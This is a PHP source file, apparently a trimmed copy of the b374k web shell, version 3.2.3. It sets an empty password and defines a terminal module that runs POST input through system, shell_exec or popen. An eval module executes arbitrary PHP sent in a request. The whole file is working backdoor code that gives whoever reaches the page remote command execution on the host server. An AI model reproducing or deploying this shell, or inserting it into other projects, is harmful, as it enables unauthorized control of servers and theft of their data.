<?php
$GLOBALS['packer']['title'] = "b374k shell packer";
$GLOBALS['ver'] = "3.2.3";
$GLOBALS['title'] = "b374k";
$GLOBALS['pass'] = "";
$GLOBALS['module_to_load'] = array("explorer", "terminal", "eval");
$GLOBALS['module']['terminal']['id'] = "terminal";
$GLOBALS['module']['terminal']['title'] = "Terminal";
$GLOBALS['module']['terminal']['js_ontabselected'] = "if(!portableMode) $('#terminalInput').focus();";
$GLOBALS['module']['terminal']['content'] = "<div class='bigBox'><div id='terminalOutput'></div><input id='terminalInput' type='text'></div>";
$GLOBALS['module']['eval']['id'] = "eval";
$GLOBALS['module']['eval']['title'] = "Eval";
if (!function_exists('execute')) {
    function execute($code) {
        $output = "";
        $code = $code . " 2>&1";
        if (is_callable('system') && function_exists('system')) { ob_start(); @system($code); $output = ob_get_contents(); ob_end_clean(); if (!empty($output)) { return $output; } }
        elseif (is_callable('shell_exec') && function_exists('shell_exec')) { $output = @shell_exec($code); if (!empty($output)) { return $output; } }
        elseif (is_callable('popen') && function_exists('popen')) { $res = @popen($code, 'r'); if ($res) { while (!feof($res)) { $output .= fread($res, 2096); } pclose($res); } }
        return $output;
    }
}
if (isset($_POST['terminalInput'])) {
    $cmd = trim($_POST['terminalInput']);
    if (preg_match("/^cd\s+(.+)/", $cmd, $m)) { @chdir($m[1]); }
    output(execute($cmd));
}
if (isset($_POST['evalInput']) && isset($_POST['evalType'])) {
    $code = $_POST['evalInput'];
    if ($_POST['evalType'] == 'php') { ob_start(); eval($code); $res = ob_get_contents(); ob_end_clean(); output($res); }
}
function output($str) { header("Content-Type: text/plain"); header("Cache-Control: no-cache"); echo $str; die(); }
